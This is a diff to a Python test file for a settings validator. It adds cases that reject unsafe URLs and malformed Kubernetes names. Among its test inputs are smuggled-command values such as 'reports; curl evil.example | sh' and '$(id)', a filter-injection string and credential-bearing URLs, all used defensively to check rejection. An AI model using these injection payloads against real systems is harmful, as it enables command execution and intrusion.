@@ -1,5 +1,6 @@
 """Settings are checked whole, and no error repeats a value."""
 
+import subprocess
 import traceback
 from pathlib import Path
 from typing import Any
@@ -92,6 +93,31 @@ def test_everything_missing_is_named_at_once_one_line_a_variable(environment: py
         ("SUPABASE_URL", "http://rest.example.com", "is http:// to another machine"),
         ("SUPABASE_URL", "http://10.0.0.7:8000", "is http:// to another machine"),
         ("TELEGRAM_API_URL", "http://bot-api:8081", "is http:// to another machine"),
+        ("TELEGRAM_API_URL", "http://x.localhost:8081", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://127.1:8000", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://localhost.:8000", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://[::ffff:127.0.0.1]:8000", "is http:// to another machine"),
+        ("HEARTBEAT_URL", "http://ping.localhost/0123", "is http:// to another machine"),
+        ("SUPABASE_URL", "https://:word@abcdefgh.supabase.co", "carries more than an address"),
+        ("SUPABASE_URL", "https://@abcdefgh.supabase.co", "carries more than an address"),
+        ("SUPABASE_URL", "http://localhost@evil.example", "carries more than an address"),
+        ("SUPABASE_URL", "http://evil.example\\@localhost", "carries more than an address"),
+        ("SUPABASE_URL", "https://abcdefgh.supabase.co?", "carries more than an address"),
+        ("SUPABASE_URL", "https://abcdefgh.supabase.co/a\tb", "is not a whole https:// address"),
+        ("HEARTBEAT_URL", "https://:word@hc-ping.com/0123", "carries more than an address"),
+        ("TELEGRAM_API_URL", "https://:word@api.telegram.org", "carries more than an address"),
+        ("JOB_NAME", "Reports", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports; curl evil.example | sh", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "$(id)", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports-", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "a..b", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", 64 * "a", "is not a Job's name in Kubernetes"),
+        ("POD_NAME", 'pod",lease_until.gt.now,holder.eq."', "is not a pod's name in Kubernetes"),
+        ("POD_NAME", "pod_1", "is not a pod's name in Kubernetes"),
+        ("POD_NAME", 254 * "a", "is not a pod's name in Kubernetes"),
+        ("POD_NAMESPACE", "team.production", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", "production -o yaml", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", 64 * "a", "is not a namespace in Kubernetes"),
         ("SMTP_USER", "your-email@gmail.com", "is still the placeholder"),
         ("SMTP_PASSWORD", "your-app-password", "is still the placeholder"),
         ("SUPABASE_KEY", "change-me", "is still the placeholder"),
@@ -273,6 +299,7 @@ def test_a_misspelt_variable_is_named_with_the_one_that_was_meant(
 ) -> None:
     """In the environment as in the file; what belongs to other programs is left alone."""
     (tmp_path / ".env").write_text("SMTP_PROT=587\n")
+    (tmp_path / ".env").chmod(0o600)
     environment.setenv("REPORT_TIMEZOME", "Europe/Berlin")
     environment.setenv("SUPABASE_DB_URL", "postgres://")
     environment.setenv("SMTP_RELAY_FOR_ANOTHER", "x")
@@ -333,3 +360,38 @@ def test_a_tokens_signature_is_a_secret_of_its_own(environment: pytest.MonkeyPat
     secrets = load_settings(None).secrets()
 
     assert {WHOLE["SUPABASE_KEY"], "eyJh.eyJi.c-_9", "c-_9"} <= set(secrets)
+
+
+@pytest.mark.parametrize("mode", [0o644, 0o640, 0o602, 0o600, 0o400])
+def test_a_file_of_settings_that_others_may_read_is_named_with_the_command_that_closes_it(
+    environment: pytest.MonkeyPatch, tmp_path: Path, mode: int
+) -> None:
+    """Pasted into a shell it works, whatever the folder is called."""
+    environment.setenv("SMTP_PORT", "465")
+    folder = tmp_path / "it's a $(folder)"
+    folder.mkdir()
+    env_file = folder / ".env"
+    env_file.touch()
+    env_file.chmod(mode)
+
+    hints = load_settings(env_file).hints
+
+    if mode & 0o077:
+        (hint,) = hints
+        assert hint.startswith(f"Other users of this machine may read {env_file}. Run: ")
+        subprocess.run(hint.partition(" Run: ")[2], shell=True, check=True, timeout=60)
+        assert load_settings(env_file).hints == []
+        assert env_file.stat().st_mode & 0o777 == 0o600
+    else:
+        assert hints == []
+
+
+def test_every_name_that_kubernetes_gives_is_taken(environment: pytest.MonkeyPatch) -> None:
+    """Up to the longest, with dots where it allows them."""
+    names = {"JOB_NAME": f"1.a-{59 * 'b'}", "POD_NAME": f"{126 * 'a.'}b", "POD_NAMESPACE": f"0-{61 * 'a'}"}
+    for name, value in names.items():
+        environment.setenv(name, value)
+
+    report = checked_settings(None).report
+
+    assert [report.job_name, report.pod_name, report.pod_namespace] == [*names.values()]
